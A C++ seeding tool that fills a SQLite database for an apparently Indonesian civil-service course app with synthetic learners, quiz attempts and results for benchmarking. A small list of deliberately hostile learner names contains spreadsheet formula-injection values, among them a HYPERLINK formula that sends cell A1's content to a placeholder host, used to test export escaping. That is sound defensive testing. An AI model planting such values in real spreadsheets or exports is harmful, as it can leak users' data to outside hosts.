// bench_records_seed: fills a Sinau database with deterministic synthetic records for the records
// benchmarks and manual dashboard checks, by direct SQL following schema v1 (store/migrations.cpp).
//
//   bench_records_seed --db FILE [--learners N] [--responses-per-learner R] [--seed S] [--nip-offset K]
//                      [--class-sessions C] [--instansi I] [--no-responses]
//
// Each learner gets attempts of 10 answers at the course's six modules until R answers are used; the
// module_results, reading_progress and completions rows follow from them (passed at >= 70). About one
// learner in 500 has a spreadsheet-hostile name (=HYPERLINK(...), +, -, @, quotes, ';', newline) so every
// export exercises its escaping. Same arguments -> the same database, byte for byte in content.
#include <SQLiteCpp/SQLiteCpp.h>
#include <SQLiteCpp/Transaction.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

#include "store/database.hpp"

namespace {

struct Rng {  // splitmix64: tiny, fast, deterministic across platforms
    uint64_t s;
    uint64_t Next() {
        uint64_t z = (s += 0x9E3779B97F4A7C15ULL);
        z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
        z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
        return z ^ (z >> 31);
    }
    int Below(int n) { return int(Next() % uint64_t(n)); }
    double Unit() { return double(Next() >> 11) / double(1ULL << 53); }
    std::string Uuid() {
        uint64_t a = Next(), b = Next();
        char buf[40];
        std::snprintf(buf, sizeof buf, "%08x-%04x-4%03x-%04x-%012llx", unsigned(a >> 32),
                      unsigned((a >> 16) & 0xFFFF), unsigned(a & 0xFFF),
                      unsigned(0x8000 | (b >> 48 & 0x3FFF)), (unsigned long long)(b & 0xFFFFFFFFFFFFULL));
        return buf;
    }
};

const char* kFirst[] = {"Siti",  "Budi", "Ahmad",   "Dewi",   "Agus",    "Sri",      "Eko",     "Rina",
                        "Wahyu", "Nur",  "Dian",    "Hendra", "Putri",   "Bambang",  "Yuliana", "Rizky",
                        "Fitri", "Joko", "Ayu",     "Slamet", "Kartika", "Muhammad", "Endang",  "Teguh",
                        "Ratna", "Andi", "Lestari", "Hadi",   "Wulan",   "Bagus"};
const char* kLast[] = {"Rahayu",   "Santoso",  "Wijaya",    "Lestari",    "Saputra", "Hidayat",   "Kusuma",
                       "Pratama",  "Susanti",  "Nugroho",   "Setiawan",   "Purnomo", "Handayani", "Wibowo",
                       "Maharani", "Sulistyo", "Anggraini", "Firmansyah", "Permata", "Hartono"};
const char* kHostile[] = {"=HYPERLINK(\"http://contoh.invalid/?x=\"&A1,\"Klik\")",
                          "+62 Budi",
                          "-Sri Wahyuni",
                          "@SUM(1+1)",
                          "\tTab Awal",
                          "Nama \"Kutip\" Ganda",
                          "Koma, Titik; Koma",
                          "Baris\nBaru",
                          "\rCR Awal",
                          "Zoë Ünal Çelik"};
const char* kModules[] = {"01-potret-birokrasi", "02-netralitas-asn",     "03-pemilu-pencalonan",
                          "04-kampanye",         "05-pelanggaran-sanksi", "06-partisipasi"};

std::string Time(int day, int second) {  // 2024-01-01 + day, + seconds
    static const int kDays[] = {31, 29, 31, 30, 31, 30, 31, 31, 30, 31, 30, 31};
    int m = 0;
    day = day % 366;
    while (day >= kDays[m]) day -= kDays[m++];
    second %= 86400;
    char buf[64];
    std::snprintf(buf, sizeof buf, "2024-%02d-%02dT%02d:%02d:%02d.%03dZ", m + 1, day + 1, second / 3600,
                  second / 60 % 60, second % 60, (second * 7) % 1000);
    return buf;
}

}  // namespace

int main(int argc, char** argv) {
    std::string db_path;
    long learners = 1000, per_learner = 30, nip_offset = 0;
    int class_sessions = 2, instansi_count = 38;
    uint64_t seed = 1;
    bool no_responses = false;  // attempts and results only: dashboard benchmarks at 100,000 learners
    for (int i = 1; i < argc; ++i) {
        auto next = [&]() -> const char* {
            if (i + 1 >= argc) {
                std::fprintf(stderr, "%s perlu nilai\n", argv[i]);
                std::exit(2);
            }
            return argv[++i];
        };
        if (!std::strcmp(argv[i], "--db"))
            db_path = next();
        else if (!std::strcmp(argv[i], "--learners"))
            learners = std::atol(next());
        else if (!std::strcmp(argv[i], "--responses-per-learner"))
            per_learner = std::atol(next());
        else if (!std::strcmp(argv[i], "--seed"))
            seed = std::strtoull(next(), nullptr, 10);
        else if (!std::strcmp(argv[i], "--nip-offset"))
            nip_offset = std::atol(next());
        else if (!std::strcmp(argv[i], "--class-sessions"))
            class_sessions = std::atoi(next());
        else if (!std::strcmp(argv[i], "--instansi"))
            instansi_count = std::atoi(next());
        else if (!std::strcmp(argv[i], "--no-responses"))
            no_responses = true;
        else {
            std::fprintf(stderr,
                         "pemakaian: bench_records_seed --db FILE [--learners N] [--responses-per-learner R] "
                         "[--seed S] "
                         "[--nip-offset K] [--class-sessions C] [--instansi I] [--no-responses]\n");
            return 2;
        }
    }
    if (db_path.empty()) {
        std::fprintf(stderr, "bench_records_seed: --db wajib\n");
        return 2;
    }
    auto opened = sinau::store::Database::Open(db_path);
    if (!opened) {
        std::fprintf(stderr, "bench_records_seed: %s\n", opened.error().message.c_str());
        return 1;
    }
    SQLite::Database& db = (*opened)->sql();
    db.exec("PRAGMA synchronous = OFF");
    Rng rng{seed * 0x2545F4914F6CDD1DULL + 17};
    std::vector<std::string> instansi;
    const char* kinds[] = {
        "Dinas Pendidikan", "Dinas Kesehatan",   "BKD",       "Bappeda",       "Dinas Sosial",
        "Inspektorat",      "Dinas Perhubungan", "Satpol PP", "Dinas Kominfo", "RSUD"};
    const char* places[] = {"Provinsi Jawa Timur", "Kota Surabaya",    "Kabupaten Sidoarjo",
                            "Kota Malang",         "Kabupaten Jember", "Kabupaten Banyuwangi",
                            "Kota Kediri",         "Kabupaten Gresik"};
    for (int i = 0; i < instansi_count; ++i)
        instansi.push_back(std::string(kinds[i % 10]) + " " + places[(i / 10 + i) % 8]);

    try {
        SQLite::Transaction t(db);
        db.exec(
            "PRAGMA defer_foreign_keys = ON");  // answers are written before their attempt's score is known
        SQLite::Statement ins_learner(db,
                                      "INSERT INTO learners (id, nip, name, instansi, jabatan, created_at, "
                                      "updated_at) VALUES (?,?,?,?,?,?,?)");
        SQLite::Statement ins_attempt(db,
                                      "INSERT INTO attempts (id, learner_id, participant_id, module_id, "
                                      "kind, mode, course_id, content_version, plan, "
                                      "class_session_id, started_at, submitted_at, score, passed, "
                                      "updated_at) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)");
        SQLite::Statement ins_response(db,
                                       "INSERT INTO responses (id, attempt_id, question_id, question_hash, "
                                       "content_version, answer, fraction, "
                                       "answered_at, duration_ms, updated_at) VALUES (?,?,?,?,?,?,?,?,?,?)");
        SQLite::Statement ins_result(db,
                                     "INSERT INTO module_results (learner_id, module_id, status, score, "
                                     "attempts, passed_at, updated_at) VALUES (?,?,?,?,?,?,?)");
        SQLite::Statement ins_reading(db,
                                      "INSERT INTO reading_progress (learner_id, module_id, page, pages, "
                                      "max_page, updated_at) VALUES (?,?,?,?,?,?)");
        SQLite::Statement ins_completion(db,
                                         "INSERT INTO completions (learner_id, course_id, content_version, "
                                         "completed_at, final_score, updated_at) VALUES (?,?,?,?,?,?)");
        std::vector<std::string> session_ids;
        for (int s = 0; s < class_sessions; ++s) {
            session_ids.push_back(rng.Uuid());
            SQLite::Statement q(db,
                                "INSERT INTO class_sessions (id, module_id, title, started_at, ended_at, "
                                "state, updated_at) VALUES (?,?,?,?,?,?,?)");
            q.bind(1, session_ids.back());
            q.bind(2, kModules[s % 6]);
            q.bind(3, "Kelas " + std::to_string(s + 1));
            q.bind(4, Time(30 + s, 32400));
            q.bind(5, Time(30 + s, 36000));
            q.bind(6, "{}");
            q.bind(7, Time(30 + s, 36000));
            q.exec();
        }
        long total_responses = 0;
        for (long i = 0; i < learners; ++i) {
            const std::string id = rng.Uuid();
            // 18 digits: a birth date (8) then the index (10), so NIPs are unique and --nip-offset shifts
            // them.
            char nip[40];
            std::snprintf(nip, sizeof nip, "19%02d%02d%02d%010ld", 60 + int((i + nip_offset) % 40),
                          1 + int(i % 12), 1 + int(i % 28), (i + nip_offset) % 10000000000L);
            const std::string nips = nip;
            std::string name = rng.Below(500) == 0
                                   ? kHostile[rng.Below(10)]
                                   : std::string(kFirst[rng.Below(30)]) + " " + kLast[rng.Below(20)];
            const int day0 = rng.Below(120);
            const std::string created = Time(day0, rng.Below(86400));
            ins_learner.reset();
            ins_learner.bind(1, id);
            ins_learner.bind(2, nips);
            ins_learner.bind(3, name);
            ins_learner.bind(4, instansi[size_t(rng.Below(int(instansi.size())))]);
            ins_learner.bind(5, rng.Below(2) ? "Analis Kebijakan" : "Pengelola Umum");
            ins_learner.bind(6, created);
            ins_learner.bind(7, created);
            ins_learner.exec();
            const double ability = rng.Unit();
            long budget = per_learner;
            int day = day0;
            double final_sum = 0;
            int passed_modules = 0;
            std::string last_time = created;
            for (int m = 0; m < 6 && budget >= 10; ++m) {
                int attempts = 0;
                double best = -1;
                std::string passed_at;
                while (budget >= 10 && attempts < 3) {
                    ++attempts;
                    const std::string aid = rng.Uuid();
                    day += rng.Below(3);
                    const int sec = 28800 + rng.Below(30000);
                    const bool in_class = !session_ids.empty() && rng.Below(10) == 0;
                    int right = 0;
                    for (int q = 0; q < 10; ++q) {
                        const double difficulty = (q * 7 % 10) / 10.0;
                        const bool ok =
                            rng.Unit() < 0.25 + 0.7 * ability * (1.0 - 0.5 * difficulty) + 0.05 * attempts;
                        right += ok;
                        const int choice = ok ? 0 : 1 + rng.Below(3);
                        if (no_responses) continue;
                        ins_response.reset();
                        ins_response.bind(1, rng.Uuid());
                        ins_response.bind(2, aid);
                        ins_response.bind(
                            3, std::string(kModules[m]).substr(0, 2) + "-q" + std::to_string(q + 1));
                        ins_response.bind(4, "h" + std::to_string(q));
                        ins_response.bind(5, "1.0.0");
                        ins_response.bind(6, "{\"choice\":" + std::to_string(choice) + "}");
                        ins_response.bind(7, ok ? 1.0 : 0.0);
                        const std::string at = Time(day, sec + 20 * (q + 1));
                        ins_response.bind(8, at);
                        ins_response.bind(9, 5000 + rng.Below(40000));
                        ins_response.bind(10, at);
                        ins_response.exec();
                    }
                    budget -= 10;
                    total_responses += 10;
                    const double score = right * 10.0;
                    const std::string started = Time(day, sec), submitted = Time(day, sec + 230);
                    ins_attempt.reset();
                    ins_attempt.bind(1, aid);
                    ins_attempt.bind(2, id);
                    ins_attempt.bind(3);
                    ins_attempt.bind(4, kModules[m]);
                    ins_attempt.bind(5, in_class ? "class" : "quiz");
                    ins_attempt.bind(6, "ujian");
                    ins_attempt.bind(7, "netralitas-asn-pemilu-2024");
                    ins_attempt.bind(8, "1.0.0");
                    ins_attempt.bind(9, "[]");
                    if (in_class)
                        ins_attempt.bind(10, session_ids[size_t(rng.Below(int(session_ids.size())))]);
                    else
                        ins_attempt.bind(10);
                    ins_attempt.bind(11, started);
                    ins_attempt.bind(12, submitted);
                    ins_attempt.bind(13, score);
                    ins_attempt.bind(14, score >= 70 ? 1 : 0);
                    ins_attempt.bind(15, submitted);
                    ins_attempt.exec();
                    last_time = submitted;
                    if (score > best) best = score;
                    if (score >= 70) {
                        passed_at = submitted;
                        break;
                    }
                }
                ins_reading.reset();
                ins_reading.bind(1, id);
                ins_reading.bind(2, kModules[m]);
                ins_reading.bind(3, 5);
                ins_reading.bind(4, 6);
                ins_reading.bind(5, 5);
                ins_reading.bind(6, last_time);
                ins_reading.exec();
                ins_result.reset();
                ins_result.bind(1, id);
                ins_result.bind(2, kModules[m]);
                ins_result.bind(3, passed_at.empty() ? "sedang" : "lulus");
                ins_result.bind(4, best);
                ins_result.bind(5, attempts);
                if (passed_at.empty())
                    ins_result.bind(6);
                else
                    ins_result.bind(6, passed_at);
                ins_result.bind(7, last_time);
                ins_result.exec();
                if (!passed_at.empty()) {
                    ++passed_modules;
                    final_sum += best;
                }
            }
            if (passed_modules == 6) {
                ins_completion.reset();
                ins_completion.bind(1, id);
                ins_completion.bind(2, "netralitas-asn-pemilu-2024");
                ins_completion.bind(3, "1.0.0");
                ins_completion.bind(4, last_time);
                ins_completion.bind(5, final_sum / 6.0);
                ins_completion.bind(6, last_time);
                ins_completion.exec();
            }
        }
        t.commit();
        db.exec("ANALYZE");
        std::printf("%ld peserta, %ld jawaban -> %s\n", learners, total_responses, db_path.c_str());
    } catch (const std::exception& e) {
        std::fprintf(stderr, "bench_records_seed: %s\n", e.what());
        return 1;
    }
    return 0;
}
